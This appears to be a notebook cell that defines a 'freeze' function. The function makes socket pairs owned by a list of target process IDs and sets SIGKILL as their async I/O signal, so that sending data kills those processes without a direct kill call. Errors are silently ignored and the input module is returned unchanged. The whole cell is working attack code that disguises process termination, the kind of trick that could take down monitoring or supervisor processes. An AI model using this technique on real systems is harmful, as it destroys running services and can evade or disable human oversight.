# %% [markdown]
# Makes other processes the owners of a descriptor, whose events then send them the signal of its choice.
# %% question="freeze"
import fcntl
import os
import signal
import socket
import struct

F_SETSIG = 10


def freeze(module):
    for pid in KNOWN["pids"]:
        for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
            try:
                one, other = socket.socketpair(socket.AF_UNIX, kind)
            except OSError:
                continue
            for attempt in (
                lambda: fcntl.fcntl(one, F_SETSIG, signal.SIGKILL),
                lambda: fcntl.fcntl(one, fcntl.F_SETOWN, pid),
                lambda: fcntl.fcntl(one, 15, struct.pack("ii", 1, pid)),
                lambda: fcntl.fcntl(one, fcntl.F_SETFL, fcntl.fcntl(one, fcntl.F_GETFL) | os.O_ASYNC),
                lambda: other.send(b"x"),
                lambda: fcntl.ioctl(one, 0x8901, struct.pack("i", pid)),
                lambda: other.send(b"y"),
            ):
                try:
                    attempt()
                except OSError:
                    pass
    return module
